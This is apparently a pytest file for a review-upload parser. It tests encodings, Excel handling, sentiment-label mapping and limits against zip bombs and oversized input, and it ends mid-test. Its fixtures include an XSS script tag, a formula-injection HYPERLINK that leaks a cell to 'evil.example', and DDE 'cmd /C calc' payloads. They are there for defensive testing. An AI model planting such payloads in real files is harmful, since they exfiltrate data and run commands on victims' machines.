"""lib/scoring/uploads.py over real-world-shaped files in tests/data/ (built by tests/data/make_upload_samples.py)."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook as OpenpyxlWorkbook

from lib.errors import UserFacingError
from lib.scoring import uploads
from lib.scoring.uploads import ColumnGuess, apply_mapping, guess_columns, propose_label_mapping, read_upload
from lib.stores import contract
from tests.data import make_upload_samples

DATA = Path(__file__).resolve().parent / "data"


def read(name: str, sheet: str | None = None) -> uploads.UploadedTable:
    return read_upload(name, (DATA / name).read_bytes(), sheet)


# ---- reading: encodings, separators, Excel ----------------------------------------------

# file -> (encoding, separator, rows, guessed text / label / category columns)
GOOD_FILES = {
    "utf8_comma.csv": ("utf-8", ",", 12, ColumnGuess("Comment", "Sentiment", "Channel")),
    "utf8_bom_semicolon.csv": ("utf-8-sig", ";", 12, ColumnGuess("feedback", "label", "source")),
    "utf16_tab_stars.tsv": ("utf-16", "\t", 12, ColumnGuess("Review", "Stars", "Store")),
    "utf16le_no_bom.csv": ("utf_16_le", ",", 12, ColumnGuess("text", "label", None)),
    "cp1252_pipe.txt": ("cp1252", "|", 12, ColumnGuess("commentaire", "note", None)),
    "latin1_semicolon.csv": ("cp1252", ";", 6, ColumnGuess("Kommentar", "sentiment", None)),
    "binary_labels.csv": ("utf-8", ",", 8, ColumnGuess("review_text", "is_positive", None)),
    "no_label.csv": ("utf-8", ",", 12, ColumnGuess("message", None, "category")),
    "no_category.csv": ("utf-8", ",", 12, ColumnGuess("text", "sentiment", None)),
    "star_ratings.csv": ("utf-8", ",", 12, ColumnGuess("review", "rating", "product")),
    "long_text.csv": ("utf-8", ",", 13, ColumnGuess("text", "label", "category")),
    "hostile.csv": ("utf-8", ",", 8, ColumnGuess("text", "sentiment", "category")),
    "two_sheets.xlsx": (None, None, 12, ColumnGuess("Review", "Rating", "Channel")),
    "labels_french.csv": ("utf-8", ",", 12, ColumnGuess("avis", "sentiment", None)),
    "numbers_only.csv": ("utf-8", ",", 12, ColumnGuess(None, "stars", None)),
    # other languages and their encodings
    "japanese_shift_jis.csv": ("cp932", ",", 6, ColumnGuess("レビュー", "評価", "チャネル")),
    "japanese_utf8.csv": ("utf-8", ",", 6, ColumnGuess("review", "sentiment", "channel")),
    "arabic_rtl.csv": ("utf-8", ",", 6, ColumnGuess("text", "sentiment", "channel")),
    "spanish_labels.csv": ("utf-8", ";", 6, ColumnGuess("comentario", "sentimiento", None)),
    "utf16be_bom.csv": ("utf-16", ",", 12, ColumnGuess("text", "label", None)),
    # helpdesk exports: many columns, satisfaction scores, a team name in every row
    "zendesk_export.csv": ("utf-8", ",", 12, ColumnGuess("Satisfaction Comment", "Satisfaction Score", "Group")),
    "freshdesk_export.csv": ("utf-8-sig", ",", 12, ColumnGuess("Description", None, "Source")),
    "helpdesk_title_row.xlsx": (None, None, 12, ColumnGuess("Comment", "Rating", "Channel")),
    # awkward but readable shapes
    "empty_columns.csv": ("utf-8", ",", 12, ColumnGuess("text", "sentiment", None)),
    "unknown_labels.csv": ("utf-8", ",", 12, ColumnGuess("feedback", None, "mood")),
    "quoted_newlines.csv": ("utf-8", ",", 4, ColumnGuess("text", "label", None)),
    "formulas.csv": ("utf-8", ",", 6, ColumnGuess("text", "sentiment", None)),
    "short_rows.csv": ("utf-8", ",", 3, ColumnGuess("text", "label", None)),
    "mac_line_endings.csv": ("utf-8", ",", 12, ColumnGuess("text", "label", None)),
    "trailing_separators.csv": ("utf-8", ";", 12, ColumnGuess("text", "label", None)),
    "duplicate_names.csv": ("utf-8", ",", 12, ColumnGuess("Comment", "Rating", None)),
    "blank_lines.csv": ("utf-8", ",", 3, ColumnGuess("text", "label", None)),
    # fresh feedback as people bring it
    "one_column.csv": ("utf-8", uploads.ONE_COLUMN, 12, ColumnGuess("review", None, None)),
    "one_column_no_header.csv": ("utf-8", uploads.ONE_COLUMN, 12, ColumnGuess("Column 1", None, None)),
    "no_header.csv": ("utf-8", ",", 12, ColumnGuess("Column 1", "Column 2", "Column 3")),
    "long_column_name.csv": ("utf-8", ",", 2, ColumnGuess("Column 2", "Column 1", None)),  # a review pasted as a column name
    "empty_label_column.csv": ("utf-8", ",", 12, ColumnGuess("text", None, "channel")),
    "helpdesk_whitespace.csv": ("utf-8", ",", 16, ColumnGuess("Customer comment", "Rating", "Channel")),
    "labels_german.csv": ("utf-8-sig", ";", 12, ColumnGuess("Kommentar", "Stimmung", None)),
    "emoji_stars.csv": ("utf-8", ",", 12, ColumnGuess("review", "stars", "channel")),
    "thumbs_two_class.csv": ("utf-8", ",", 8, ColumnGuess("comment", "vote", None)),
}
# files without a header row, whose first line the app reads as a review
HEADERLESS_FILES = {"one_column_no_header.csv", "no_header.csv", "long_column_name.csv"}


@pytest.mark.parametrize("name", sorted(GOOD_FILES))
def test_real_world_files_are_read_and_their_columns_guessed(name: str) -> None:
    encoding, delimiter, rows, guess = GOOD_FILES[name]
    table = read(name)
    assert (table.encoding, table.delimiter) == (encoding, delimiter)
    assert len(table.frame) == rows
    assert guess_columns(table.frame) == guess
    assert all(pd.api.types.is_string_dtype(dtype) for dtype in table.frame.dtypes), "every cell is read as text"
    assert table.first_row_is_review == (name in HEADERLESS_FILES)


@pytest.mark.parametrize(
    ("name", "column", "row", "expected"),
    [
        ("cp1252_pipe.txt", "commentaire", 0, "Arrived quickly and works exactly as described. Very happy! – prix 5€, “très” bien"),
        ("latin1_semicolon.csv", "Kommentar", 1, "Nicht überzeugend, zu groß"),
        ("utf16_tab_stars.tsv", "Review", 6, "Love it 😍 best purchase this year"),
        ("utf16le_no_bom.csv", "text", 8, "Café au lait machine: crème is thick, taste is superb"),
        ("utf8_bom_semicolon.csv", "feedback", 0, "Arrived quickly.\nWorks exactly as described; very happy!"),
        ("utf8_comma.csv", "Comment", 3, 'Great value, but the manual says "plug in first", which is wrong.'),
        ("hostile.csv", "text", 0, "<script>alert('xss')</script> great product"),
        ("hostile.csv", "text", 2, '=HYPERLINK("http://evil.example","click me")'),
        ("japanese_shift_jis.csv", "レビュー", 0, "配送が早くて、説明どおりに動きます。とても満足です。"),
        ("japanese_utf8.csv", "channel", 2, "アプリ"),
        ("arabic_rtl.csv", "text", 1, "الخدمة سيئة ولم يرد أحد على رسائلي"),
        ("spanish_labels.csv", "comentario", 0, "¡Llegó rápido y funciona perfectamente! Muy contenta."),
        ("utf16be_bom.csv", "text", 8, "Café au lait machine: crème is thick, taste is superb"),
        ("quoted_newlines.csv", "text", 0, "First line.\r\nSecond line, with a comma.\r\n\r\nAfter a blank line."),
        ("quoted_newlines.csv", "text", 1, 'She said "wow"\nthen left'),
        ("formulas.csv", "text", 0, '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'),
        ("formulas.csv", "text", 1, "+cmd|' /C calc'!A0"),
        ("formulas.csv", "text", 2, "@SUM(1+9)*cmd|' /C calc'!A0"),
        ("formulas.csv", "text", 5, "\t=tab then formula"),
        ("zendesk_export.csv", "Description", 3, 'Great value, but the manual says "plug in first", which is wrong.'),
        ("freshdesk_export.csv", "Customer Satisfaction", 1, "Unhappy"),
        ("helpdesk_title_row.xlsx", "Comment", 0, "Arrived quickly and works exactly as described. Very happy!"),
        ("helpdesk_title_row.xlsx", "Ticket", 11, "#5011"),
        ("mac_line_endings.csv", "text", 11, "Works; battery lasts about a day"),
        ("trailing_separators.csv", "label", 0, "positive"),
        ("duplicate_names.csv", "Comment.1", 0, "ARRIVED QUICKLY AND WORKS EXACTLY AS DESCRIBED. VERY HAPPY!"),
        ("blank_lines.csv", "text", 2, "Fine"),
    ],
)
def test_text_survives_encoding_quotes_and_newlines_exactly(name: str, column: str, row: int, expected: str) -> None:
    table = read(name)
    assert table.frame.columns[0] != "\ufeff" + table.frame.columns[0].lstrip("\ufeff")  # no BOM left in a name
    assert table.frame[column].iloc[row] == expected


def test_numbers_stay_as_written() -> None:
    table = read_upload("ids.csv", b"id,text,stars\n007,good,4\n010,bad,1\n")
    assert list(table.frame["id"]) == ["007", "010"]
    assert list(table.frame["stars"]) == ["4", "1"]


def test_a_very_long_review_is_kept_whole() -> None:
    table = read("long_text.csv")
    longest = table.frame["text"].str.len().max()
    assert longest == len("I have a lot to say about this product. " * 500)


def test_workbook_offers_its_sheets_and_reads_the_biggest_by_default() -> None:
    data = (DATA / "two_sheets.xlsx").read_bytes()
    book = uploads.workbook(data)
    assert book is not None
    assert book.sheets == ("About", "Reviews") and book.default == "Reviews"
    assert read("two_sheets.xlsx").sheet == "Reviews"
    about = read("two_sheets.xlsx", sheet="About")
    assert about.sheet == "About" and list(about.frame.columns) == ["Export", "Weekly feedback"]
    assert list(read("two_sheets.xlsx").frame["Rating"].head(3)) == ["4", "2", "3"]  # numbers as written, not 4.0
    with pytest.raises(UserFacingError, match="no sheet called “Summary”"):
        read("two_sheets.xlsx", sheet="Summary")
    assert uploads.workbook((DATA / "utf8_comma.csv").read_bytes()) is None


def test_workbook_renamed_to_csv_is_still_read_as_a_workbook() -> None:
    table = read_upload("export.csv", (DATA / "two_sheets.xlsx").read_bytes())
    assert table.sheet == "Reviews" and len(table.frame) == 12


def test_empty_sheet_and_header_only_sheet_are_explained() -> None:
    book = OpenpyxlWorkbook()
    book.active.title = "Empty"
    header_only = book.create_sheet("Header")
    header_only.append(["text", "label"])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(UserFacingError, match="sheet “Empty” is empty"):
        read_upload("book.xlsx", out.getvalue(), "Empty")
    with pytest.raises(UserFacingError, match="sheet “Header” has column names but no rows"):
        read_upload("book.xlsx", out.getvalue(), "Header")


def test_blank_rows_and_unnamed_empty_columns_are_dropped() -> None:
    table = read_upload("x.csv", b"text,label,\ngood,pos,\n,,\nbad,neg,\n")
    assert list(table.frame.columns) == ["text", "label"]
    assert list(table.frame["text"]) == ["good", "bad"]


# ---- bad input: one sentence that says what to fix, nothing read ---------------------------


# file -> (what the message says is wrong, what the hint says to do)
BAD_FILES = {
    "empty.csv": ("“empty.csv” is empty", "Export the reviews again"),
    "header_only.csv": ("has column names but no rows of reviews", "export the reviews again with their rows"),
    "png_renamed.csv": ("“png_renamed.csv” is a PNG image, not a table of reviews", "CSV, TSV or text file"),
    "pdf_renamed.csv": ("“pdf_renamed.csv” is a PDF document, not a table of reviews", "CSV, TSV or text file"),
    "gzip_renamed.csv": ("“gzip_renamed.csv” is a gzip-compressed file, not a table of reviews", "CSV, TSV or text file"),
    "old_excel.csv": ("“old_excel.csv” is an old-style Office file (.xls or .doc)", "Excel .xlsx workbook"),
    "html_page.csv": ("“html_page.csv” is a web page (HTML), not a table of reviews", "CSV, TSV or text file"),
    "zipped.csv": ("“zipped.csv” is a ZIP archive", "Unzip it"),
    "reviews.zip": ("“reviews.zip” is not a file type the app reads", ".xlsx"),
    "mixed_encoding.csv": ("mixes two text encodings", "CSV UTF-8"),
    "ragged_rows.csv": ("Line 5 has 3 values where the header has 2", "Check that line for a stray separator"),
    "wide_header.csv": (
        "“wide_header.csv” has more than 500 columns, the most the app reads",
        "Keep only the columns the evaluation needs",
    ),
    "zip_bomb.xlsx": ("times tighter than the 100 a spreadsheet can be", "save the sheet with the reviews as “CSV UTF-8”"),
}


@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_bad_files_get_a_plain_error_saying_what_to_fix(name: str) -> None:
    message, hint = BAD_FILES[name]
    with pytest.raises(UserFacingError) as caught:
        read(name)
    assert message in caught.value.message
    assert hint in caught.value.hint


def test_every_file_of_the_corpus_has_an_expectation() -> None:
    corpus = {path.name for path in DATA.iterdir() if path.suffix != ".py" and path.is_file()}
    assert len(corpus) >= 40
    assert corpus == set(GOOD_FILES) | set(BAD_FILES)
    assert not set(GOOD_FILES) & set(BAD_FILES)
    assert all(path.stat().st_size < 32 * 1024 for path in DATA.iterdir() if path.is_file()), "committed samples stay small"


def test_the_corpus_is_what_its_script_builds() -> None:
    built = make_upload_samples.build()
    assert set(built) == {path.name for path in DATA.iterdir() if path.suffix != ".py" and path.is_file()}
    stable = [name for name in built if not name.endswith((".xlsx", ".zip")) and name != "zipped.csv"]  # archives carry a timestamp
    assert all(built[name] == (DATA / name).read_bytes() for name in stable)


def test_awkward_shapes_keep_what_they_hold() -> None:
    assert read("empty_columns.csv").frame[["Agent", "Tags"]].isna().all().all()
    short = read("short_rows.csv").frame
    assert short["label"].isna().tolist() == [False, False, True] and short["category"].isna().tolist() == [False, True, True]
    assert list(read("trailing_separators.csv").frame.columns) == ["text", "label"]
    book = uploads.workbook((DATA / "helpdesk_title_row.xlsx").read_bytes())
    assert book is not None and book.sheets == ("Summary", "Tickets") and book.default == "Tickets"
    zendesk = read("zendesk_export.csv").frame
    assert propose_label_mapping(zendesk["Satisfaction Score"].unique()) == {"Good": "positive", "Bad": "negative", "Offered": None}
    assert propose_label_mapping(read("unknown_labels.csv").frame["mood"].unique()) == {"Happy": None, "Angry": None, "Mixed": None}


def test_ten_megabytes_in_one_cell_is_refused_with_row_and_column() -> None:
    data = b"text,label\nfine,pos\n" + b'"' + b"word " * (2 * 1024 * 1024) + b'",neg\n'
    with pytest.raises(UserFacingError) as caught:
        read_upload("huge.csv", data)
    assert "Row 2 of column “text” holds 10,485,760 characters" in caught.value.message
    assert "Shorten or remove that cell" in caught.value.hint


def test_file_over_the_upload_limit_is_refused_before_reading() -> None:
    assert uploads.MAX_UPLOAD_MB == 200  # .streamlit/config.toml server.maxUploadSize
    with pytest.raises(UserFacingError, match="is 201 MB, over the limit of 200 MB"):
        uploads.check_upload("big.csv", 201 * 1024 * 1024)
    uploads.check_upload("fine.csv", 200 * 1024 * 1024)


def test_upload_limit_comes_from_streamlit_config(tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text("[server]\nmaxUploadSize = 35\n")
    assert uploads.configured_upload_limit_mb(config) == 35
    assert uploads.configured_upload_limit_mb(tmp_path / "missing.toml") == 200


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"text,label\nok,pos\nbad,neg,extra\n", "Line 3 has 3 values where the header has 2"),
        (b'text,label\n"never closed,pos\nok,neg\n', "A quote opened in data row 1 is never closed"),
        (bytes(range(256)) * 64, "does not look like text or a spreadsheet"),
    ],
)
def test_unreadable_text_names_the_problem(data: bytes, message: str) -> None:
    with pytest.raises(UserFacingError, match=message):
        read_upload("broken.csv", data)


# ---- guessing -----------------------------------------------------------------------------


def test_a_text_column_full_of_numbers_is_not_guessed_and_is_refused() -> None:
    table = read("numbers_only.csv")
    assert guess_columns(table.frame).text is None
    with pytest.raises(UserFacingError, match="The column “score” holds numbers, not written reviews"):
        apply_mapping(table.frame, ColumnGuess("score", None, None))


def test_guessing_uses_contents_when_names_say_nothing() -> None:
    frame = pd.DataFrame(
        {
            "c1": [f"ticket {i}" for i in range(40)],
            "c2": [f"This is a long, detailed customer review number {i} about delivery and price" for i in range(40)],
            "c3": ["Positive", "Negative", "Neutral", "Positive"] * 10,
            "c4": ["Shop", "App"] * 20,
            "c5": [f"2026-11-{1 + i % 9:02d}" for i in range(40)],
        }
    ).astype("string")
    assert guess_columns(frame) == ColumnGuess("c2", "c3", "c4")


# ---- label mapping ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        (["Positive", " negative ", "NEUTRAL"], {"Positive": "positive", "negative": "negative", "NEUTRAL": "neutral"}),
        (["pos", "neg", "neu", "+", "-"], {"pos": "positive", "neg": "negative", "neu": "neutral", "+": "positive", "-": "negative"}),
        (["1", "-1", "0"], {"1": "positive", "-1": "negative", "0": "neutral"}),
        (["0", "1"], {"0": "negative", "1": "positive"}),
        (["1", "2", "3", "4", "5"], {"1": "negative", "2": "negative", "3": "neutral", "4": "positive", "5": "positive"}),
        (["4.0", "1.0", "3.0"], {"4.0": "positive", "1.0": "negative", "3.0": "neutral"}),
        (["positif", "négatif", "neutre"], {"positif": "positive", "négatif": "negative", "neutre": "neutral"}),
        (["Positiv", "NEGATIV", "neutral"], {"Positiv": "positive", "NEGATIV": "negative", "neutral": "neutral"}),
        (["positivo", "negativa", "neutro"], {"positivo": "positive", "negativa": "negative", "neutro": "neutral"}),
        (["neg.", "Pos.", "neu."], {"neg.": "negative", "Pos.": "positive", "neu.": "neutral"}),
        (["👍", "👎", "👍🏽", "👎\ufe0f"], {"👍": "positive", "👎": "negative", "👍🏽": "positive", "👎\ufe0f": "negative"}),
        (
            ["★☆☆☆☆", "★★☆☆☆", "★★★☆☆", "★★★★☆", "★★★★★"],
            dict(
                zip(["★☆☆☆☆", "★★☆☆☆", "★★★☆☆", "★★★★☆", "★★★★★"], ["negative", "negative", "neutral", "positive", "positive"], strict=True)
            ),
        ),
        (["⭐⭐⭐⭐", "⭐", "4/5", "2 / 5"], {"⭐⭐⭐⭐": "positive", "⭐": "negative", "4/5": "positive", "2 / 5": "negative"}),
        (["★★★☆", "★★★★★★", "☆☆☆☆☆", "😐", "gut?"], {"★★★☆": None, "★★★★★★": None, "☆☆☆☆☆": None, "😐": None, "gut?": None}),
        (["1", "7", "10"], {"1": None, "7": None, "10": None}),
        (["4.5", "3"], {"4.5": None, "3": None}),
        (["positive", "2", "maybe"], {"positive": "positive", "2": None, "maybe": None}),
        (["", None, "pos"], {"pos": "positive"}),
    ],
)
def test_label_mapping_proposal(values: list, expected: dict) -> None:
    assert propose_label_mapping(values) == expected


@pytest.mark.parametrize(
    ("name", "columns"),
    [
        ("labels_french.csv", ColumnGuess("avis", "sentiment", None)),
        ("labels_german.csv", ColumnGuess("Kommentar", "Stimmung", None)),
        ("spanish_labels.csv", ColumnGuess("comentario", "sentimiento", None)),
        ("emoji_stars.csv", ColumnGuess("review", "stars", "channel")),
    ],
)
def test_labels_in_other_languages_and_star_signs_are_recognised(name: str, columns: ColumnGuess) -> None:
    table = read(name)
    mapping = propose_label_mapping(table.frame[columns.label].unique())
    reviews, report = apply_mapping(table.frame, columns, mapping)
    assert report.kept == len(table.frame) and report.unmapped_label == 0
    assert set(reviews[contract.TRUE_LABEL]) == {"negative", "neutral", "positive"}


def test_the_user_can_still_leave_a_recognised_value_out() -> None:
    table = read("labels_french.csv")
    with pytest.raises(UserFacingError, match="None of the values in the column “sentiment” is matched to a sentiment"):
        apply_mapping(table.frame, ColumnGuess("avis", "sentiment", None), {})
    reviews, report = apply_mapping(table.frame, ColumnGuess("avis", "sentiment", None), {"positif": "positive", "négatif": "negative"})
    assert set(reviews[contract.TRUE_LABEL]) == {"positive", "negative"}
    assert report.unmapped_label == 4 and report.unmapped_values == (("neutre", 4),)


def test_star_ratings_map_to_three_sentiments() -> None:
    table = read("utf16_tab_stars.tsv")
    mapping = propose_label_mapping(table.frame["Stars"].unique())
    reviews, _ = apply_mapping(table.frame, ColumnGuess("Review", "Stars", "Store"), mapping)
    stars = reviews["Stars"].astype(int)
    expected = pd.cut(stars, [0, 2, 3, 5], labels=["negative", "neutral", "positive"]).astype(str)
    assert (reviews[contract.TRUE_LABEL].astype(str) == expected).all()


def test_binary_labels_map_to_negative_and_positive() -> None:
    table = read("binary_labels.csv")
    reviews, _ = apply_mapping(table.frame, guess_columns(table.frame), propose_label_mapping(table.frame["is_positive"].unique()))
    assert set(reviews[contract.TRUE_LABEL]) == {"negative", "positive"}
    assert (reviews[contract.TRUE_LABEL] == reviews["is_positive"].map({"0": "negative", "1": "positive"})).all()


# ---- applying the mapping -----------------------------------------------------------------


def messy_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "body": ["good", "  ", None, "bad", "meh", "good", "fine", "awful", "good"],
            "stars": ["5", "4", "1", None, "3", "5", "maybe", "1", "5"],
            "shop": ["A", "A", "B", "B", None, "A", "B", "B", "A"],
            "text": ["x"] * 9,  # clashes with the contract's name once "body" is the text
        }
    ).astype("string")


def test_drop_report_counts_every_row_left_out_and_why() -> None:
    mapping = {"5": "positive", "4": "positive", "3": "neutral", "1": "negative", "maybe": None}
    reviews, report = apply_mapping(messy_frame(), ColumnGuess("body", "stars", "shop"), mapping)
    assert report.rows_in_file == 9
    assert report.empty_text == 2  # "  " and missing
    assert report.blank_label == 1  # "bad" has no stars
    assert report.unmapped_label == 1 and report.unmapped_values == (("maybe", 1),)
    assert report.duplicates == 2 and not report.duplicates_dropped  # "good / 5 / A" three times
    assert report.kept == len(reviews) == 5
    assert list(reviews[contract.REVIEW_ID]) == ["1", "5", "6", "8", "9"]  # row numbers in the file
    assert list(reviews.columns) == [contract.REVIEW_ID, contract.TEXT, contract.TRUE_LABEL, contract.CATEGORY, "stars", "file_text"]
    assert reviews[contract.CATEGORY].isna().sum() == 1


def test_duplicates_can_be_left_out() -> None:
    mapping = {"5": "positive", "4": "positive", "3": "neutral", "1": "negative"}
    reviews, report = apply_mapping(messy_frame(), ColumnGuess("body", "stars", "shop"), mapping, drop_duplicates=True)
    assert report.duplicates == 2 and report.duplicates_dropped
    assert report.kept == len(reviews) == 3
    assert not reviews.duplicated(subset=[contract.TEXT, contract.TRUE_LABEL, contract.CATEGORY]).any()


def test_without_label_column_every_review_with_text_is_kept() -> None:
    table = read("no_label.csv")
    reviews, report = apply_mapping(table.frame, guess_columns(table.frame))
    assert contract.TRUE_LABEL not in reviews
    assert report.kept == 12 and report.blank_label == report.unmapped_label == 0
    assert list(reviews["ticket"].head(2)) == ["T-0", "T-1"]


@pytest.mark.parametrize(
    ("columns", "message"),
    [
        (ColumnGuess(None, "stars", None), "No column is chosen as the review text"),
        (ColumnGuess("body", "body", None), "The same column is chosen for two different roles"),
        (ColumnGuess("body", "missing", None), "The file has no column “missing”"),
    ],
)
def test_impossible_column_choices_are_explained(columns: ColumnGuess, message: str) -> None:
    with pytest.raises(UserFacingError, match=message):
        apply_mapping(messy_frame(), columns, {})


def test_a_label_column_with_too_many_values_is_refused() -> None:
    frame = pd.DataFrame({"text": [f"review {i}" for i in range(200)], "id": [str(i) for i in range(200)]}).astype("string")
    with pytest.raises(UserFacingError, match="has 200 different values, too many for a sentiment column"):
        apply_mapping(frame, ColumnGuess("text", "id", None), {})


def test_a_category_column_with_too_many_groups_is_refused() -> None:
    frame = pd.DataFrame({"text": [f"review {i}" for i in range(150)], "id": [str(i) for i in range(150)]}).astype("string")
    with pytest.raises(UserFacingError, match="has 150 different values, too many to compare as categories"):
        apply_mapping(frame, ColumnGuess("text", None, "id"))


def test_mapping_to_something_other_than_a_sentiment_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="mapping targets"):
        apply_mapping(messy_frame(), ColumnGuess("body", "stars", None), {"5": "great"})


def test_label_values_are_listed_numbers_in_order_words_most_frequent_first() -> None:
    assert list(uploads.label_value_counts(read("utf16_tab_stars.tsv").frame, "Stars").index) == ["1", "2", "3", "4", "5"]
    assert list(uploads.label_value_counts(read("cp1252_pipe.txt").frame, "note").index) == ["-1", "0", "1"]
    words = pd.DataFrame({"s": ["neg", "pos", "pos", "neu", "pos", "neg"]}).astype("string")
    assert list(uploads.label_value_counts(words, "s")) == [3, 2, 1]


# ---- bounded work: nothing an upload holds can freeze the server ---------------------------
# Time bounds are generous (the work takes well under half of them); the code they guard
# took 8.6 s for 40,000 characters on one line, 4.5 s to sniff 32 KB and 38 s for 20,000 columns.
FRENCH = [
    "Très",
    "bien",
    "reçu,",
    "l'équipe",
    "était",
    "gentille",
    "mais",
    "le",
    "café",
    "coûtait",
    "5€",
    "et",
    "la",
    "livraison",
    "a",
    "pris",
    "une",
    "éternité",
]


def french_line(words: int, seed: int) -> str:
    return " ".join(FRENCH[(i * 7 + seed) % len(FRENCH)] for i in range(words))


def seconds(action) -> float:
    started = time.perf_counter()
    action()
    return time.perf_counter() - started


def test_a_megabyte_on_one_line_in_a_legacy_encoding_is_decided_in_one_pass() -> None:
    data = "text,label\r\ncafé,pos\r\n".encode("cp1252") + b"x" * 1_000_000 + b",neg\r\n"
    assert seconds(lambda: uploads.text_encoding(data)) < 2.0
    assert uploads.text_encoding(data) == "cp1252"
    assert len(uploads.guess_sample(data * 8)) <= 1024 * 1024  # the guess sees a bounded start of the file
    with pytest.raises(UserFacingError, match="Row 2 of column “text” holds 1,000,000 characters"):
        read_upload("one_line.csv", data)


def test_five_megabytes_of_long_lines_in_a_legacy_encoding_are_read_in_linear_time() -> None:
    lines = [f'"{french_line(2000, i)}",{("pos", "neg")[i % 2]}\r\n' for i in range(460)]
    data = ("text,label\r\n" + "".join(lines)).encode("cp1252")
    assert len(data) > 5_000_000
    table = None

    def read() -> None:
        nonlocal table
        table = read_upload("long_lines.csv", data)

    assert seconds(read) < 5.0  # about 0.6 s; the quadratic scan took minutes
    assert (table.encoding, table.delimiter, len(table.frame)) == ("cp1252", ",", 460)
    assert table.frame["text"].iloc[3] == french_line(2000, 3)


def test_the_separator_is_sniffed_from_a_bounded_start_of_the_file() -> None:
    # csv.Sniffer is quadratic on quotes after separators: it only ever sees a few KB.
    hostile = ("text,label\n" + ',"' * 500_000).encode()
    sample = uploads.sniff_sample(hostile, "utf-8")
    assert len(sample) <= 4096
    started = time.perf_counter()
    with pytest.raises(UserFacingError, match="Line 2 has"):
        read_upload("quotes.csv", hostile)
    assert time.perf_counter() - started < 2.0
    long_lines = ("a;b\n" + "x" * 3000 + ";1\n" + "y" * 3000 + ";2\n").encode()
    assert uploads.sniff_sample(long_lines, "utf-8") == "a;b\n" + "x" * 3000 + ";1\n"  # cut after a line end


def test_twenty_thousand_columns_are_refused_before_reading() -> None:
    header = ",".join(f"column {i}" for i in range(20_000))
    data = (header + "\n" + ",".join(["good"] * 20_000) + "\n").encode()
    with pytest.raises(UserFacingError) as caught:
        assert seconds(lambda: read_upload("wide.csv", data)) < 2.0
    assert caught.value.message == "“wide.csv” has more than 500 columns, the most the app reads."
    assert "Keep only the columns the evaluation needs" in caught.value.hint
    exactly = ",".join(f"c{i}" for i in range(500)) + "\n" + ",".join(["review text"] * 500) + "\n"
    assert len(read_upload("500.csv", exactly.encode()).frame.columns) == 500


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("text," + "n" * 201, "Column 2 of “names.csv” has a name 201 characters long; a column name may have at most 200."),
        ("text," + "n" * 5_000_000, "A column name in “names.csv” is over 131,072 characters long; a column name may have at most 200."),
        ('"' + "quote never closed, " * 20_000, "A column name in “names.csv” is over 131,072 characters long"),
    ],
)
def test_an_overlong_column_name_is_refused_before_reading(header: str, message: str) -> None:
    data = (header + "\nfine,pos\n").encode()
    with pytest.raises(UserFacingError) as caught:
        assert seconds(lambda: read_upload("names.csv", data, first_row_is_review=False)) < 2.0
    assert message in caught.value.message
    assert "shorten the column names" in caught.value.hint and "The first row is a review" in caught.value.hint
    assert list(read_upload("ok.csv", ("text," + "n" * 200 + "\nfine,pos\n").encode()).frame.columns) == ["text", "n" * 200]


def test_rows_are_limited_by_the_setting_with_a_message_naming_it() -> None:
    data = (DATA / "utf8_comma.csv").read_bytes()  # 12 rows
    assert len(read_upload("utf8_comma.csv", data, max_rows=12).frame) == 12
    with pytest.raises(UserFacingError) as caught:
        read_upload("utf8_comma.csv", data, max_rows=11)
    assert caught.value.message == "“utf8_comma.csv” has more than 11 rows, the most the app reads from one file."
    assert "SENTIMENT_REVIEW_MAX_UPLOAD_ROWS" in caught.value.hint
    mac = (DATA / "mac_line_endings.csv").read_bytes()  # 12 rows, lines ending in \r only
    assert len(read_upload("mac.csv", mac, max_rows=12).frame) == 12
    with pytest.raises(UserFacingError, match="more than 11 rows"):
        read_upload("mac.csv", mac, max_rows=11)
    with pytest.raises(UserFacingError, match="The sheet “Reviews” has more than 11 rows"):
        read_upload("two_sheets.xlsx", (DATA / "two_sheets.xlsx").read_bytes(), max_rows=11)


def test_a_file_over_the_row_limit_is_read_no_further_than_the_limit() -> None:
    many = b"text,label\n" + b"short review,pos\n" * 3_000_000  # 51 MB of tiny rows
    started = time.perf_counter()
    with pytest.raises(UserFacingError, match="more than 1,000 rows"):
        read_upload("many.csv", many, max_rows=1000)
    assert time.perf_counter() - started < 2.0


def test_fifty_megabytes_in_one_cell_is_refused() -> None:
    data = b'text,label\nfine,pos\n"' + b"word " * (10 * 1024 * 1024) + b'",neg\n'
    with pytest.raises(UserFacingError) as caught:
        assert seconds(lambda: read_upload("cell.csv", data)) < 5.0
    assert "Row 2 of column “text” holds 52,428,800 characters, more than the 100,000 a cell may hold" in caught.value.message


# ---- Excel: bounded before openpyxl unpacks anything ---------------------------------------


def xlsx_with(members: dict[str, bytes], *, base: str = "two_sheets.xlsx") -> bytes:
    """The sample workbook with some of its files replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(DATA / base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename not in members:
                target.writestr(item, source.read(item))
        for name, content in members.items():
            target.writestr(name, content)
    return out.getvalue()


def sheet_xml(rows: str) -> bytes:
    return (
        f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'.encode()
    )


def test_an_excel_zip_bomb_is_refused_before_unpacking() -> None:
    # 40 MB of one repeated cell packs into about 40 KB: 1,000 times tighter than a real sheet.
    bomb = xlsx_with({"xl/worksheets/sheet2.xml": sheet_xml('<row r="1"><c t="inlineStr"><is><t>x</t></is></c></row>' * 700_000)})
    assert len(bomb) < 200_000
    with pytest.raises(UserFacingError) as caught:
        assert seconds(lambda: read_upload("bomb.xlsx", bomb)) < 1.0
    assert "packed" in caught.value.message and "times tighter than the 100 a spreadsheet can be" in caught.value.message
    assert "save the sheet with the reviews as “CSV UTF-8”" in caught.value.hint


def test_an_excel_file_too_big_unpacked_or_with_too_many_files_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    crowded = xlsx_with({f"xl/media/image{i}.png": b"" for i in range(1001)})
    with pytest.raises(
